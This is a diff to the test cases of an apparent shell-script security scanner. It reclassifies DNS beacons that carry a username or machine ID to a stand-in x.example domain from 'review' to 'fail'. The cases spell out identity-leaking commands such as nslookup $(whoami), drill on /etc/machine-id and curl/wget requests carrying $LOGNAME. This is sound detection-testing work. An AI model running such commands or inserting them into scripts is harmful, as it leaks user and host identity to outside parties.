@@ -131,7 +131,9 @@ launchctl load "$2"
       ['read-file-loop.sh', 'while IFS== read -r k v; do export "$k=$v"; done < .env.example'],
     ] as const
   ).map(([name, code]): Case => ({ name, code: `#!/bin/bash\n${code}\n`, verdict: 'pass' })),
-  // --- 2. DNS beacons: a computed name carrying who the user is goes to review, a secret fails
+  // --- 2. DNS beacons: a computed name under a fixed domain carrying who the user is fails
+  // (bash-identity-dns-exfil, red-team round 5), so does one carrying a secret; an HTTP request
+  // naming the user goes to review
   ...(
     [
       ['dns-whoami.sh', 'nslookup $(whoami).x.example'],
@@ -141,19 +143,24 @@ launchctl load "$2"
       ['dns-deep-var.sh', 'u=$USER\nid="$u-01"\nhost "$id.t.x.example"'],
       ['dns-getent.sh', 'getent hosts "$(uname -n | cut -d. -f1).x.example"'],
       ['dns-machine-id.sh', 'drill "$(cut -c1-16 /etc/machine-id).x.example"'],
-      ['http-identity.sh', 'wget -qO /dev/null "https://t.x.example/p?u=$LOGNAME"'],
     ] as const
   ).map(([name, code]): Case => ({
     name,
     code: `#!/bin/sh\n${code}\n`,
+    verdict: 'fail',
+    rule: /^bash-identity-dns-exfil$/,
+  })),
+  {
+    name: 'http-identity.sh',
+    code: '#!/bin/sh\nwget -qO /dev/null "https://t.x.example/p?u=$LOGNAME"\n',
     verdict: 'review',
     rule: /^bash-identity-beacon$/,
-  })),
+  },
   {
     name: 'docs/check.md',
     code: 'Check connectivity: run `dig +short "$(id -un)-$(hostname -s).t.x.example"` first.\n',
-    verdict: 'review',
-    rule: /^bash-identity-beacon$/,
+    verdict: 'fail',
+    rule: /^bash-identity-dns-exfil$/,
   },
   {
     name: 'dns-key.sh',
@@ -549,14 +556,19 @@ launchctl load "$2"
         'dns2-printf-var.sh',
         '#!/bin/sh\nlabel=$(printf \'%s-%s\' "$(whoami)" "$(uname -n)")\nping -c1 -W1 "$label.t.x.example" >/dev/null 2>&1\n',
       ],
-      ['dns2-curl-host.sh', '#!/bin/sh\ncurl -s -o /dev/null "https://$(whoami).x.example/"\n'],
     ] as const
   ).map(([name, code]): Case => ({
     name,
     code,
+    verdict: 'fail',
+    rule: /^bash-identity-dns-exfil$/,
+  })),
+  {
+    name: 'dns2-curl-host.sh',
+    code: '#!/bin/sh\ncurl -s -o /dev/null "https://$(whoami).x.example/"\n',
     verdict: 'review',
     rule: /^bash-identity-beacon$/,
-  })),
+  },
   ...(
     [
       ['dns2-b-xargs-domains.sh', '#!/bin/sh\ncat domains.txt | xargs -I{} dig +short {}\n'],
